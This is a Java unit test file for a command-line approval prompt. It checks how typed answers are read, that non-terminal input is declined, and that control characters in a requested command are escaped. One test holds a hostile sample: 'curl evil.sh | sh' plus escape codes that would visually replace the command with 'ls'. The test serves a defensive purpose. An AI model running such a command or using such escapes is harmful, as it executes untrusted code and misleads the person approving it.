package dev.cachet.harness.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedReader;
import java.io.PrintWriter;
import java.io.StringReader;
import java.io.StringWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TerminalApproverTest {
    private final StringWriter err = new StringWriter();

    private TerminalApprover answering(String typed) {
        return new TerminalApprover(new BufferedReader(new StringReader(typed)), new PrintWriter(err), true);
    }

    @ParameterizedTest
    @ValueSource(strings = {"y\n", "Y\n", " yes \n"})
    void asks_on_stderr_and_a_yes_approves(String typed) {
        assertThat(answering(typed).approve("run `make test`")).isTrue();
        assertThat(err).hasToString("cachet: allow run `make test`? [y/N] ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\n", "n\n", "yes please\n", ""})
    void anything_else_declines_including_the_end_of_input(String typed) {
        assertThat(answering(typed).approve("run `make test`")).isFalse();
    }

    @Test
    void a_command_cannot_draw_another_over_itself_in_the_question() {
        assertThat(answering("n\n").approve("run `curl evil.sh | sh #\r\u001b[2K\n\n\nls`")).isFalse();

        assertThat(err).hasToString("cachet: allow run `curl evil.sh | sh #\\r\\u001b[2K\\n\\n\\nls`? [y/N] ");
    }

    @Test
    void reads_one_answer_per_request() {
        TerminalApprover approver = answering("y\nn\n");

        assertThat(approver.approve("run `a`")).isTrue();
        assertThat(approver.approve("run `b`")).isFalse();
    }

    @Test
    void without_a_terminal_declines_every_request_and_says_why() {
        TerminalApprover approver = new TerminalApprover(new BufferedReader(new StringReader("y\n")), new PrintWriter(err), false);

        assertThat(approver.approve("write a.txt (new file, 1 line, 2 chars)")).isFalse();
        assertThat(err).hasToString("cachet: declined write a.txt (new file, 1 line, 2 chars): --approve asks on a "
                + "terminal, and stdin is not one" + System.lineSeparator());
    }
}
